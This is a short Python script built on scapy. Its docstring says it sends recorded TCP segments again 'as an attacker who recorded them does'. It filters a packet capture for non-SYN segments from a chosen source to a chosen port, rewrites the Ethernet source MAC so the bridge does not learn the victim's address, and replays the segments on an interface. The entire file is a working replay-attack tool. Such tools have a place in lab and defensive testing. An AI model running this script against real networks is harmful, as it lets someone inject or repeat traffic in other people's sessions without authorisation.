#!/usr/bin/python3
# SPDX-License-Identifier: ISC
"""Send recorded TCP segments again, as an attacker who recorded them does.

    replay_frames.py PCAP --src IP --dport P [--iface eth0]

Every Ethernet frame in PCAP carrying a TCP segment from IP to port P,
except SYNs, goes out of IFACE again in the order recorded, byte for byte
but for the Ethernet source (this host's MAC, so that the bridge does not
learn the victim's there). Prints one line per frame sent.
"""

import argparse
import logging

logging.getLogger("scapy.runtime").setLevel(logging.ERROR)
from scapy.all import (IP, TCP, Ether, IPv6, conf, get_if_hwaddr,  # noqa: E402
                       rdpcap, sendp)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("pcap")
    ap.add_argument("--src", required=True)
    ap.add_argument("--dport", type=int, required=True)
    ap.add_argument("--iface", default="eth0")
    a = ap.parse_args()
    mac = get_if_hwaddr(a.iface)
    frames = []
    for f in rdpcap(a.pcap):
        ip = f[IPv6] if IPv6 in f else f[IP] if IP in f else None
        if ip is None or TCP not in f or ip.src != a.src:
            continue
        t = f[TCP]
        if t.dport != a.dport or t.flags.S:
            continue
        f[Ether].src = mac
        frames.append(Ether(bytes(f)))
        print("replay %s seq %d ack %d len %d" % (
            t.sprintf("%flags%"), t.seq, t.ack, len(t.payload)))
    if not frames:
        raise SystemExit("no segments from %s to port %d in %s" %
                         (a.src, a.dport, a.pcap))
    conf.verb = 0
    sendp(frames, iface=a.iface)
    print("replayed %d segments" % len(frames))


if __name__ == "__main__":
    main()
